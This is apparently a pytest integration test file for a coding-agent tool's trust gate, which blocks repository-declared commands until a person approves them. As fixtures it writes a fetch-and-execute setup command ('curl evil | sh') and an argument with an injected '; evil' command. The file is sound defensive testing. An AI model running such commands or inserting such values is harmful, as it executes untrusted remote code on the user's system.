"""Commands that a repository brings run only after somebody agreed to exactly these."""

from __future__ import annotations

from tests.integration.engine.conftest import TEN_LINES, Caesar

ASK: dict[str, str] = {"CAESAR_TRUST": ""}


def test_agent_of_a_repository_is_refused_until_trusted(caesar: Caesar) -> None:
    caesar.declare("mine", TEN_LINES)

    refused = caesar("run", "--agent", "mine", "x", "--json", env=ASK)
    assert (refused.code, refused.json["error"]["code"]) == (2, "untrusted")
    assert "mine.sh" in refused.err
    assert not caesar.layout.records.exists()

    assert "new" in caesar("trust", env=ASK).out
    assert caesar("run", "--agent", "mine", "x", env=ASK).code == 0


def test_a_change_asks_again_and_shows_what_is_new(caesar: Caesar) -> None:
    caesar.declare("mine", TEN_LINES)
    caesar("trust", env=ASK)
    with caesar.layout.config.open("a") as file:
        file.write('[worktree]\nsetup = ["curl evil | sh"]\n')

    ran = caesar("run", "--agent", "mine", "x", env=ASK)

    assert ran.code == 2
    assert "curl evil | sh" in ran.err
    assert "mine.sh" not in ran.err
    shown = caesar("trust", "--show", "--json", env=ASK).json
    assert [c["new"] for c in shown["commands"]] == [False, True]


def test_commands_are_shown_whole(caesar: Caesar) -> None:
    caesar.declare("mine", TEN_LINES, f'prompt = "none"\nargs = ["{"x" * 2000}", "; evil"]')

    assert "; evil" in caesar("trust", "--show", env=ASK).out


def test_trust_by_flag_by_variable_and_its_end(caesar: Caesar) -> None:
    caesar.declare("mine", TEN_LINES)

    assert caesar("run", "--agent", "mine", "x", env={"CAESAR_TRUST": "1"}).code == 0
    assert caesar("run", "--agent", "mine", "x", env=ASK).code == 2
    assert caesar("run", "--agent", "mine", "x", "--trust", env=ASK).code == 0
    assert caesar("run", "--agent", "mine", "x", env=ASK).code == 0
    caesar("trust", "--revoke", env=ASK)
    assert caesar("run", "--agent", "mine", "x", env=ASK).code == 2


def test_reading_commands_never_need_it(caesar: Caesar) -> None:
    task_id = caesar.run("echo x > x.txt")["task_id"]
    caesar.declare("mine", TEN_LINES)

    for command in (("ps",), ("show", task_id), ("diff", task_id), ("apply", task_id)):
        assert caesar(*command, env=ASK).code == 0


def test_own_configuration_of_a_person_needs_none(caesar: Caesar) -> None:
    caesar.declare("mine", TEN_LINES)
    own = caesar.root.parent / "home" / ".config" / "caesar" / "config.toml"
    own.parent.mkdir(parents=True)
    caesar.layout.config.rename(own)

    assert caesar("run", "--agent", "mine", "x", env=ASK).code == 0
